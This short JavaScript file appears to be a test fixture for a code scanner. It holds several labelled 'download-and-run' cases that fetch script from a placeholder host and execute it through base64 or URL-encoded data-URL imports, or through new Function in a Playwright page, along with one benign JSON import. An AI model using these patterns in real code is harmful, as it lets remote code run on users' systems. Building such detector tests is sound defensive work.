const http = require('http');
const { chromium } = require('playwright');

async function module_of_an_address() {
  const answer = await fetch('https://feeds.notes.example/v2');
  const code = Buffer.from(await answer.arrayBuffer()).toString('base64');
  return import(`data:text/javascript;base64,${code}`); // expect: download-and-run
}

async function by_another_spelling() {
  const answer = await fetch('https://feeds.notes.example/v3');
  return import('data:text/javascript,' + encodeURIComponent(await answer.text())); // expect: download-and-run
}

async function own_module(name) {
  return import(`data:application/json,${JSON.stringify({ name })}`, { with: { type: 'json' } });
}

async function in_a_page(script) {
  const page = await (await chromium.launch()).newPage();
  const answer = await page.goto('https://notes.example/');
  await page.evaluate((text) => new Function(text)(), await answer.text());
  return page.evaluate((text) => new Function(text)(), script);
}

module.exports = { module_of_an_address, by_another_spelling, own_module, in_a_page, http };
